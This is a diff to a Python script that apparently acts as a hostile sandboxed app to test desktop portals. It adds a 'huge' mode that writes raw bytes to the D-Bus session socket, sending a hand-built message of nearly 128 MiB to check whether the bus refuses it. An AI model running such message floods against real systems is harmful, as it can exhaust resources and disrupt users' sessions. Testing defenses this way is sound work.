@@ -1,6 +1,6 @@
 """What a hostile app does with portals.
 
-usage: attack.py flood | title | keep TOKEN | close PATH | long | fds | unasked"""
+usage: attack.py flood | title | keep TOKEN | close PATH | long | huge | fds | unasked"""
 import os
 import sys
 
@@ -72,6 +72,30 @@ def long():
             print("taken")
         except GLib.Error as error:
             print("refused", error.message[:100])
+
+
+def huge():
+    """The longest message that there can be, by hand: no library sends it."""
+    import socket
+    import struct
+
+    path = os.environ["DBUS_SESSION_BUS_ADDRESS"].removeprefix("unix:path=").split(",")[0]
+    end = socket.socket(socket.AF_UNIX)
+    end.connect(path)
+    end.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
+    print("greeted", end.recv(100)[:2], flush=True)
+    end.sendall(b"BEGIN\r\n")
+    length = (128 << 20) - (64 << 10)
+    # A call, little endian, with an array of fields that is empty.
+    end.sendall(struct.pack("<BBBBIII", ord("l"), 1, 0, 1, length, 1, 0))
+    sent = 0
+    try:
+        while sent < length:
+            sent += end.send(b"x" * (1 << 20))
+        end.settimeout(20)
+        print("answer", end.recv(100))
+    except OSError as error:
+        print("refused", error)
 
 
 def fds():
